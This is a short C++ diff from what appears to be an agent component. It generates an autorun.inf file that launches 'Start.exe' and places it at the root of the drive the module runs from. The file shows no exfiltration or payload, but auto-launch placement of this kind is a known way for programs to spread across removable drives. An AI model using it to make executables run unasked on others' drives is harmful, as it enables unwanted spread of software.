@@ -1,0 +1,24 @@
+// autorun.inf text and place.
+#include "common/agent/AutorunInf.h"
+
+namespace common {
+
+std::vector<uint8_t> AutorunInfBytes() {
+    static constexpr char kText[] =
+        "[autorun]\r\n"
+        "action=Kelvo\r\n"
+        "Title=Kelvo\r\n"
+        "Shell=Shell00\r\n"
+        "Shell\\Shell00=Kelvo\r\n"
+        "Shell\\Shell00\\Command=Start.exe";
+    return std::vector<uint8_t>(kText, kText + sizeof(kText) - 1);
+}
+
+std::u16string AutorunInfPath(std::u16string_view moduleFolder) {
+    if (moduleFolder.empty()) {
+        return {};
+    }
+    return std::u16string(1, moduleFolder.front()) + u":\\autorun.inf";
+}
+
+}  // namespace common
